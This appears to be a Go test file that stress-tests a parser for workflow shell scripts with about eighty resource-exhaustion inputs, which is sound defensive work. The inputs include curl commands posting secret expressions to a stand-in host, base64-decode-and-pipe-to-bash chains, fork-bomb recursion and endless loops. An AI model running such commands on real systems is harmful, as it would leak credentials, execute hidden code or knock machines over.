package script

import (
	"fmt"
	"runtime"
	"strings"
	"testing"
	"time"
)

const hostileSize = 1 << 20 // bytes: the largest workflow file that is parsed

// filled repeats a text up to the largest size.
func filled(s string) string { return strings.Repeat(s, hostileSize/len(s)) }

// hostileScripts cost a careless reader minutes or gigabytes.
func hostileScripts() map[string]string {
	numbered := func(format string, n int) string {
		var b strings.Builder
		for i := 0; b.Len() < hostileSize-100 && i < n; i++ {
			b.WriteString(strings.ReplaceAll(format, "#", fmt.Sprint(i)))
		}
		return b.String()
	}
	out := map[string]string{
		"doubling":              "A=xxxxxxxxxx\n" + strings.Repeat("A=$A$A\ncurl -d \"$A\" https://a.example.invalid\n", 20_000),
		"doubling secrets":      "A=${{ secrets.A }}\n" + strings.Repeat("A=$A$A\ncurl -d \"$A\" https://a.example.invalid\n", 20_000),
		"recursion":             "f() { f; f; }\nf",
		"mutual recursion":      "f() { g $1$1; g; }\ng() { f $1$1; f; }\nf x",
		"recursion by eval":     "x='eval \"$x\"; eval \"$x\"'\neval \"$x\"",
		"recursion by bash":     "echo 'bash x.sh; bash x.sh' > x.sh\nbash x.sh",
		"nested loops":          strings.Repeat("for a in 1 2 3 4 5 6 7 8 9 10; do ", 12) + "curl $a.example.invalid" + strings.Repeat("; done", 12),
		"counting loops":        strings.Repeat("for ((i=0;i<100;i++)); do ", 8) + "A=$A$i" + strings.Repeat("; done", 8),
		"endless loop":          "for ((;;)); do A=$A$A; done",
		"while loops":           strings.Repeat("while x; do ", 50) + "curl a.example.invalid" + strings.Repeat("; done", 50),
		"nested braces":         "echo " + strings.Repeat("{a,b}", 200),
		"open braces":           "echo " + filled("{a,"),
		"branches":              strings.Repeat("if a; then A=$A.1; else A=$A.2; fi\ncurl https://$A\n", 5_000),
		"alternatives":          strings.Repeat("[ x ] && A=${A}1\n[ y ] && B=${B}2\ncurl \"$A$B$A$B\"\n", 5_000),
		"substitutions":         filled("$("),
		"double quotes":         filled("\"$("),
		"closed substitutions":  strings.Repeat("$(", 1400) + "a" + strings.Repeat(")", 1400),
		"backquotes":            filled("`"),
		"parentheses":           filled("("),
		"balanced":              filled("( ')' ("),
		"ifs":                   filled("if a; then "),
		"expansions":            filled("${a:-"),
		"arithmetic of a text":  "A=" + strings.Repeat("x", 60_000) + "\n" + strings.Repeat("B=$(($A))\n", 40_000),
		"arithmetic of a name":  "A=" + strings.Repeat("x", 60_000) + "\n" + strings.Repeat("B=$((A))\n", 40_000),
		"index of a text":       "A=" + strings.Repeat("x", 60_000) + "\n" + strings.Repeat("B[$A]=x\n", 40_000),
		"arithmetic":            "echo $((" + filled("(") + "))",
		"unary":                 "echo $((" + filled("- ") + "1))",
		"assignments":           "echo $((" + filled("a=") + "1))",
		"powers":                "echo $((" + filled("1+") + "1))",
		"pipes":                 filled("a|") + "a",
		"pipes with data":       "env | " + filled("cat | ") + "cat",
		"lists":                 filled("a&&") + "a",
		"tests":                 "[[ " + filled("a && ") + "a ]]",
		"elifs":                 "if a; then b; " + filled("elif a; then b; ") + "fi",
		"cases":                 "case x in " + filled("a) b;; ") + "esac",
		"here-documents":        filled("cat <<A "),
		"statements":            filled(":\n"),
		"commands":              filled("curl a.example.invalid\n"),
		"words":                 "curl " + filled("http://a.invalid "),
		"many hosts":            "curl " + numbered("http://h#.invalid ", 1<<20),
		"many variables":        numbered("A#=$A#x\n", 1<<20),
		"many files":            numbered("echo $STEP > f#\n", 1<<20),
		"folder of many files":  numbered("echo $STEP > f#; cat .\n", 1<<20),
		"many functions":        numbered("f#() { :; }\n", 1<<20),
		"many arrays":           numbered("A+=(# # # #)\n", 1<<20),
		"quotes":                filled("'\""),
		"open quote":            "echo '" + filled("curl a.example.invalid\n"),
		"expressions":           filled("${{ secrets.A }}"),
		"expression words":      "curl -d \"" + filled("${{ secrets.A }}") + "\" https://a.example.invalid",
		"different expressions": "curl -d \"" + numbered("${{ secrets.A# }}", 1<<20) + "\" https://a.example.invalid",
		"open expressions":      filled("${{ ' "),
		"long word":             "curl https://" + filled("a"),
		"long assignment":       "A=" + filled("a") + "\ncurl -d $A$A$A https://a.example.invalid",
		"patterns":              "A=" + strings.Repeat("a", 4000) + "\n" + strings.Repeat("B=${A##*a*a*a*a*a*a*b}\n", 2_000),
		"replacements":          "A=" + strings.Repeat("a", 60_000) + "\n" + strings.Repeat("B=${A//a/bbbbbbbb}\n", 10_000),
		"sed":                   "A=" + strings.Repeat("a", 30_000) + "\n" + strings.Repeat("B=$(echo $A | sed 's/./&&/g')\n", 10_000),
		"printf":                strings.Repeat("printf '%s%s%s' $A "+strings.Repeat("x ", 100)+"\n", 4_000),
		"base64":                strings.Repeat("echo "+strings.Repeat("QUFB", 1000)+" | base64 -d | bash\n", 250),
		"base64 of base64":      "echo " + enc64(enc64(enc64(enc64(strings.Repeat("curl a.example.invalid\n", 10_000))))) + " | base64 -d | base64 -d | base64 -d | base64 -d | bash",
		"decoded and searched":  numbered("echo Y3VybCBhLmV4YW1wbGUuaW52YWxpZAo# | base64 -d > f#\n", 2_000) + strings.Repeat("eval \"curl a.example.invalid\"\n", 20_000),
		"xargs":                 "echo " + strings.Repeat("a ", 10_000) + " > l\n" + strings.Repeat("cat l | xargs -n1 curl -d x\n", 10_000),
		"set and env":           numbered("export V#=x; env | cat\n", 1<<20),
		"aliases":               numbered("alias a#='a# x'\na#\n", 1<<20),
		"alias of alias":        "alias a='b x x' b='a x x'\na",
		"processes":             filled("cat <(echo a) "),
		"process writes":        filled("echo a > >(cat)\n"),
		"NUL":                   filled("\x00\x01"),
		"not UTF-8":             filled("\xff\xfe a\n"),
		"tr":                    "A=" + strings.Repeat("a", 60_000) + "\n" + strings.Repeat("echo $A | tr a-z A-Z > f\n", 20_000),
		"cut":                   "A=" + strings.Repeat("a,", 30_000) + "\n" + strings.Repeat("echo $A | cut -d, -f1-30000 > f\n", 20_000),
		"subscripts":            filled("a["),
		"bad lines":             filled("fi 'x\n)\n"),
		"bad long lines":        strings.Repeat(") "+strings.Repeat("x", 50_000)+"\n", 20),
		"lines of expressions":  filled("${{\n}}\n:\n"),
		"case of assignments":   "case x in " + numbered("a) A#=;; ", 1<<20) + "esac",
		"host in pieces":        "H=a.exam\n" + filled("curl ${H}ple.invalid; "),
		"changed to the same":   "A=" + strings.Repeat("QUFB", 10_000) + "\necho $A > f\n" + filled("tr a b < f\n"),
		"slices":                "A=" + strings.Repeat("QUFB", 10_000) + "\n" + filled("B=${A:1}\n"),
		"sed of a file":         "A=" + strings.Repeat("QUFB", 10_000) + "\necho $A > f\n" + filled("sed 's/./&&/g' f > g\n"),
		"rev of a file":         "A=" + strings.Repeat("QUFB", 10_000) + "\necho $A > f\n" + filled("rev f\n"),
		"xargs by line":         "A='" + strings.Repeat("a\n", 30_000) + "'\necho \"$A\" > f\n" + filled("cat f | xargs -I{} echo {}\n"),
		"variable of lines":     "A='A<<E" + strings.Repeat("\n", 60_000) + "'\necho \"$A\" > f\n" + filled("cat f >> $GITHUB_ENV\n"),
		"file of secrets":       "A='" + numbered("${{secrets.A#}}", 1900) + "'\necho \"$A\" > f\n" + filled("cat f\n"),
		"shebangs":              "echo '#!/usr/bin/env python' > x\n" + strings.Repeat("./x\n", 100_000),
	}
	return out
}

func TestHostileScripts(t *testing.T) {
	for name, text := range hostileScripts() {
		t.Run(name, func(t *testing.T) {
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			start := time.Now()
			r := read(t, text)
			took := time.Since(start)
			runtime.ReadMemStats(&after)
			// Each takes less than a second; the limit leaves room for the race detector on a busy machine and still tells a hang.
			if took > 60*time.Second {
				t.Errorf("took %v", took)
			}
			t.Log(name, took, (after.TotalAlloc-before.TotalAlloc)>>20, "MiB", len(r.Destinations), len(r.Exits), r.Problems)
		})
	}
}
